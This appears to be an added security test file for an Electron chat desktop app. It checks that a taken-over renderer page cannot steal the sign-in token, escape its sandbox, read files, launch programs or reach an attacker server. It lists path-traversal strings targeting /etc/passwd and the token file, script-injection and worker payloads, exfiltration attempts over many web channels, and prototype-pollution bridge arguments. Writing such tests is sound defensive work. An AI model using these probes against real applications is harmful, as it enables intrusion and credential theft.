@@ -1,0 +1,473 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { readdir } from 'node:fs/promises';
+import { rm } from 'node:fs/promises';
+import type { Page } from 'playwright';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { startApp, type App } from './support/app.ts';
+import { startDesktop, type Desktop } from './support/desktop.ts';
+import { recordOpenedLinks, type OpenedLinks } from './support/opened-links.ts';
+import { startService, type Service } from './support/service.ts';
+import { signedInFolder } from './support/signed-in.ts';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { t } from '../../words/translate.ts';
+
+/**
+ * A page that has been taken over: its scripts do in the app's own window whatever they like. What a script of the window may do
+ * by its contract, a taken-over one may too; everything else is refused.
+ */
+interface Taken {
+  parley: { invoke(name: unknown, ...values: unknown[]): Promise<unknown> };
+}
+
+const cleanup = new AsyncDisposableStack();
+let service: Service;
+let desktop: Desktop;
+let opened: OpenedLinks;
+let app: App;
+let page: Page;
+let token: string;
+/** Everything that reached a server of the attacker's on this computer, the only network there is. */
+let reached: string[];
+let attacker: string;
+let udpPort: number;
+
+beforeAll(async () => {
+  reached = [];
+  const server = createServer((request, response) => {
+    reached.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x');
+  });
+  server.on('connection', () => reached.push('connection'));
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  cleanup.defer(() => void server.close());
+  attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  const socket = createSocket('udp4');
+  socket.on('message', () => reached.push('datagram'));
+  socket.bind(0, '127.0.0.1');
+  await once(socket, 'listening');
+  cleanup.defer(() => void socket.close());
+  udpPort = socket.address().port;
+
+  service = cleanup.use(await startService());
+  await service.signUp('ada@example.org', 'Ada Lovelace');
+  const userData = await signedInFolder(service, 'ada@example.org');
+  cleanup.defer(() => rm(userData, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 }));
+  token = (await readFile(join(userData, 'tokens/signed-in-before'), 'utf8')).slice('plain:'.length);
+  desktop = cleanup.use(await startDesktop());
+  opened = cleanup.use(await recordOpenedLinks());
+  app = cleanup.use(await startApp({ desktop, userData, env: opened.env }));
+  page = await app.page();
+  await page.getByRole('tab', { name: t('list.inbox') }).waitFor();
+});
+
+afterAll(() => cleanup.disposeAsync());
+
+beforeEach(() => {
+  reached.length = 0;
+});
+
+/** The page as it was, and one that the app still answers. */
+async function expectUnmoved(): Promise<void> {
+  expect(new URL(page.url()).pathname).toBe('/index.html');
+  expect(await page.evaluate(() => (globalThis as unknown as Taken).parley.invoke('readApp'))).toMatchObject({
+    accounts: [{ key: 'signed-in-before' }],
+  });
+  expect(await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
+}
+
+describe('a page that has been taken over', () => {
+  it('finds no token, in what it keeps or in what the app answers', async () => {
+    expect(token.length).toBeGreaterThan(20);
+    const kept = await page.evaluate(async () => {
+      const { parley } = globalThis as unknown as Taken;
+      const account = 'signed-in-before';
+      const answers = [
+        parley.invoke('readApp'),
+        parley.invoke('readAccount', account),
+        parley.invoke('readCertificates'),
+        parley.invoke('readWindowSettings'),
+      ];
+      return JSON.stringify([
+        await Promise.all(answers),
+        { ...localStorage },
+        { ...sessionStorage },
+        document.cookie,
+        await indexedDB.databases(),
+        document.documentElement.outerHTML,
+      ]);
+    });
+    expect(kept).toContain('ada@example.org');
+    expect(kept).not.toContain(token);
+  });
+
+  it('has nothing of Node or Electron', async () => {
+    const found = await page.evaluate(() => {
+      const { parley } = globalThis as unknown as Taken;
+      return {
+        globals: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter(
+          (name) => name in globalThis,
+        ),
+        bridge: Object.keys(parley).toSorted(),
+      };
+    });
+    expect(found).toEqual({ globals: [], bridge: ['invoke', 'on'] });
+  });
+
+  it('runs no code that did not come with the app', async () => {
+    const result = await page.evaluate(async () => {
+      const world = globalThis as unknown as { ran: string[] };
+      world.ran = [];
+      const violated: string[] = [];
+      const seen = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          violated.push(effectiveDirective);
+          if (violated.length >= 4) resolve();
+        });
+      });
+      document.body.append(
+        Object.assign(document.createElement('script'), { textContent: 'ran.push("inline")' }),
+      );
+      document.body.append(
+        Object.assign(document.createElement('script'), {
+          src: URL.createObjectURL(new Blob(['ran.push("blob")'], { type: 'text/javascript' })),
+        }),
+      );
+      document.body.append(
+        Object.assign(document.createElement('script'), { src: 'data:text/javascript,ran.push("data")' }),
+      );
+      const clicked = document.createElement('button');
+      clicked.setAttribute('onclick', 'ran.push("handler")');
+      clicked.click();
+      await seen;
+      return world.ran;
+    });
+    expect(result).toEqual([]);
+    await expectUnmoved();
+  });
+
+  it('reads no file, and nothing outside the folder of the window', async () => {
+    const found = await page.evaluate(async () => {
+      const attempts = [
+        'file:///etc/passwd',
+        '/../../../../etc/passwd',
+        '/%2e%2e/%2e%2e/package.json',
+        '/..%2f..%2fpackage.json',
+        '/media/../../tokens/signed-in-before',
+        '/media/signed-in-before/..%2f..%2ftokens',
+        '/tokens/signed-in-before',
+        '/accounts.json',
+        '/index.html%00.png',
+      ];
+      const image = (src: string): Promise<string> =>
+        new Promise((resolve) => {
+          const element = new Image();
+          element.addEventListener('load', () => resolve('read'));
+          element.addEventListener('error', () => resolve('refused'));
+          element.src = src;
+        });
+      const script = (src: string): Promise<string> =>
+        new Promise((resolve) => {
+          const element = document.createElement('script');
+          element.addEventListener('load', () => resolve('read'));
+          element.addEventListener('error', () => resolve('refused'));
+          element.src = src;
+          document.head.append(element);
+        });
+      return Promise.all(
+        attempts.flatMap((url) => [
+          fetch(url).then(
+            () => 'read',
+            () => 'refused',
+          ),
+          image(url),
+          script(url),
+        ]),
+      );
+    });
+    expect(new Set(found)).toEqual(new Set(['refused']));
+  });
+
+  it('starts no program', async () => {
+    const before = await opened.read();
+    const programs = [
+      'file:///usr/bin/xterm',
+      'javascript:alert(1)',
+      'parley://127.0.0.1/join/x',
+      'smb://example.org/share',
+      'ssh://example.org',
+      'vscode://file/etc/passwd',
+      'data:text/html,x',
+      '/usr/bin/xterm',
+      'about:blank',
+      '',
+    ];
+    await page.evaluate(async (urls) => {
+      const { parley } = globalThis as unknown as Taken;
+      for (const url of urls) {
+        await parley.invoke('openLink', url);
+        globalThis.open(url);
+      }
+    }, programs);
+    await expectUnmoved();
+    expect(await opened.read()).toEqual(before);
+  });
+
+  it('reaches no network', async () => {
+    const results = await page.evaluate(
+      async ([base, port]) => {
+        const over = (element: HTMLElement, place: ParentNode = document.body): Promise<string> =>
+          new Promise((resolve) => {
+            element.addEventListener('load', () => resolve('reached'));
+            element.addEventListener('error', () => resolve('refused'));
+            place.append(element);
+          });
+        const make = <K extends keyof HTMLElementTagNameMap>(tag: K, change: object) =>
+          Object.assign(document.createElement(tag), change);
+        const request = new XMLHttpRequest();
+        const asked = new Promise((resolve) => {
+          request.addEventListener('load', () => resolve('reached'));
+          request.addEventListener('error', () => resolve('refused'));
+        });
+        try {
+          request.open('GET', `${base}/xhr`);
+          request.send();
+        } catch {
+          request.dispatchEvent(new ProgressEvent('error'));
+        }
+        const socket = new WebSocket(`${base.replace('http', 'ws')}/socket`);
+        const events = new EventSource(`${base}/events`);
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+        peer.createDataChannel('x');
+        const gathered = new Promise<string>((resolve) => {
+          peer.addEventListener('icegatheringstatechange', () => {
+            if (peer.iceGatheringState === 'complete') resolve('refused');
+          });
+          peer.addEventListener('iceconnectionstatechange', () => {
+            if (peer.iceConnectionState === 'failed' || peer.iceConnectionState === 'closed')
+              resolve('refused');
+          });
+        });
+        const offered = peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+        const style = make('div', {});
+        style.style.backgroundImage = `url(${base}/background)`;
+        document.body.append(style);
+        navigator.sendBeacon(`${base}/beacon`, 'x');
+        const form = make('form', { action: `${base}/form`, method: 'post' });
+        document.body.append(form);
+        form.submit();
+        const all = await Promise.all([
+          fetch(`${base}/fetch`).then(
+            () => 'reached',
+            () => 'refused',
+          ),
+          fetch(`${base}/no-cors`, { mode: 'no-cors' }).then(
+            () => 'reached',
+            () => 'refused',
+          ),
+          asked,
+          new Promise((resolve) => {
+            socket.addEventListener('open', () => resolve('reached'));
+            socket.addEventListener('error', () => resolve('refused'));
+          }),
+          new Promise((resolve) => {
+            events.addEventListener('open', () => resolve('reached'));
+            events.addEventListener('error', () => resolve('refused'));
+          }),
+          over(make('img', { src: `${base}/image` })),
+          over(make('script', { src: `${base}/script` })),
+          over(make('link', { rel: 'stylesheet', href: `${base}/style` }), document.head),
+          over(make('link', { rel: 'prefetch', href: `${base}/prefetch` }), document.head),
+          over(make('link', { rel: 'preload', as: 'image', href: `${base}/preload` }), document.head),
+          over(make('audio', { src: `${base}/audio` })),
+          over(make('object', { data: `${base}/object` })),
+          over(make('script', { type: 'module', src: `${base}/module` })),
+          offered.then(
+            () => gathered,
+            () => 'refused',
+          ),
+        ]);
+        events.close();
+        peer.close();
+        return all;
+      },
+      [attacker, udpPort] as const,
+    );
+    expect(new Set(results)).toEqual(new Set(['refused']));
+    // What comes later reaches the attacker, so nothing before it is still on its way.
+    await fetch(`${attacker}/control`);
+    expect(reached).toEqual(['connection', '/control']);
+    await expectUnmoved();
+  });
+
+  it('has no frame that could do more than it', async () => {
+    const frames = await page.evaluate(async (base) => {
+      const frame = (change: object): Promise<string> =>
+        new Promise((resolve) => {
+          const element = Object.assign(document.createElement('iframe'), change);
+          element.addEventListener('load', () => {
+            const content = element.contentWindow as (Window & Partial<Taken>) | null;
+            let bridge: unknown;
+            try {
+              bridge = content?.parley;
+            } catch {
+              resolve('another origin without a bridge');
+              return;
+            }
+            resolve(bridge === undefined ? 'no bridge' : 'a bridge');
+            element.remove();
+          });
+          document.body.append(element);
+        });
+      return Promise.all([
+        frame({}),
+        frame({ srcdoc: '<script>parent.ran.push("frame")</script>' }),
+        frame({ src: 'data:text/html,x' }),
+        frame({ src: `${base}/frame` }),
+        frame({ src: '/index.html' }),
+      ]);
+    }, attacker);
+    expect(frames.filter((each) => each === 'a bridge')).toEqual([]);
+    expect(reached).toEqual([]);
+    expect(await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran)).toEqual([]);
+    await expectUnmoved();
+  });
+
+  it('starts no worker of any kind', async () => {
+    const started = await page.evaluate(async () => {
+      const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
+      const own =
+        [...document.scripts].map(({ src }) => src).find((src) => src.startsWith(location.origin)) ?? '';
+      const worker = (make: () => EventTarget): Promise<string> =>
+        new Promise((resolve) => {
+          try {
+            const made = make();
+            made.addEventListener('message', () => resolve('started'));
+            made.addEventListener('error', () => resolve('refused'));
+          } catch {
+            resolve('refused');
+          }
+        });
+      return Promise.all([
+        worker(() => new Worker(blob)),
+        worker(() => new Worker('data:text/javascript,postMessage(1)')),
+        worker(() => new Worker(own, { type: 'module' })),
+        worker(() => new SharedWorker(blob)),
+        navigator.serviceWorker.register(own).then(
+          () => 'started',
+          () => 'refused',
+        ),
+        new AudioContext().audioWorklet.addModule(blob).then(
+          () => 'started',
+          () => 'refused',
+        ),
+      ]);
+    });
+    expect(new Set(started)).toEqual(new Set(['refused']));
+  });
+
+  it('is refused devices, places and what is in the clipboard', async () => {
+    const found = await page.evaluate(async () => {
+      const state = async (name: string) =>
+        (await navigator.permissions.query({ name: name as PermissionName })).state;
+      const media = (what: MediaStreamConstraints) =>
+        navigator.mediaDevices.getUserMedia(what).then(
+          () => 'granted',
+          () => 'denied',
+        );
+      return {
+        geolocation: await state('geolocation'),
+        camera: await media({ video: true }),
+        microphone: await media({ audio: true }),
+        clipboard: await navigator.clipboard.readText().then(
+          () => 'granted',
+          () => 'denied',
+        ),
+        place: await new Promise((resolve) =>
+          navigator.geolocation.getCurrentPosition(
+            () => resolve('granted'),
+            () => resolve('denied'),
+          ),
+        ),
+      };
+    });
+    expect(new Set(Object.values(found))).toEqual(new Set(['denied']));
+  });
+
+  it('commands nothing outside the contract', async () => {
+    const values: unknown[][] = [
+      ['nothing'],
+      ['constructor'],
+      ['__proto__'],
+      ['toString'],
+      [''],
+      [null],
+      [['readApp']],
+      [{ toString: 'readApp' }],
+      ['readApp', 'one too many'],
+      ['readAccount'],
+      ['readAccount', 7],
+      ['readAccount', '../../tokens'],
+      ['readAccount', 'x'.repeat(1_000)],
+      ['selectAccount', { key: 'signed-in-before' }],
+      ['openLink', 'x'.repeat(1_000_000)],
+      ['changeSettings', { __proto__: { admin: true }, updateUrl: attacker }],
+      ['changeSettings', { theme: 'none' }],
+      ['acceptCertificate', 'chat.example.org', 'not a fingerprint'],
+      ['exportConversation', 'signed-in-before', '../../x', 'exe'],
+      ['answerLink', -1, true],
+    ];
+    const answers = await page.evaluate(async (given) => {
+      const { parley } = globalThis as unknown as Taken;
+      return Promise.all(
+        given.map(([name, ...rest]) =>
+          parley.invoke(name, ...rest).then(
+            () => 'answered',
+            () => 'refused',
+          ),
+        ),
+      );
+    }, values);
+    expect(values.filter((_, index) => answers[index] !== 'refused')).toEqual([]);
+    await expectUnmoved();
+  });
+
+  it('writes no file by itself', async () => {
+    const folder = await app.electron.evaluate(({ app: electronApp }) => electronApp.getPath('downloads'));
+    const files = () => readdir(folder).catch(() => []);
+    const before = await files();
+    await app.electron.evaluate(({ session }) => {
+      const began = new Promise<void>((resolve) =>
+        session.defaultSession.once('will-download', () => resolve()),
+      );
+      Reflect.set(globalThis, 'began', began);
+    });
+    await page.evaluate(() => {
+      const href = URL.createObjectURL(new Blob(['#!/bin/sh'], { type: 'application/x-sh' }));
+      Object.assign(document.createElement('a'), { href, download: 'taken.sh' }).click();
+    });
+    await app.electron.evaluate(() => Reflect.get(globalThis, 'began') as Promise<void>);
+    await expectUnmoved();
+    expect(await files()).toEqual(before);
+  });
+
+  it('goes nowhere, and where it did the app would not answer', async () => {
+    for (const url of [
+      `${attacker}/away`,
+      'data:text/html,away',
+      'file:///etc/passwd',
+      '/other.html',
+      'javascript:1',
+    ]) {
+      await page.evaluate((to) => {
+        location.href = to;
+      }, url);
+      await expectUnmoved();
+    }
+    expect(reached).toEqual([]);
+  });
+});
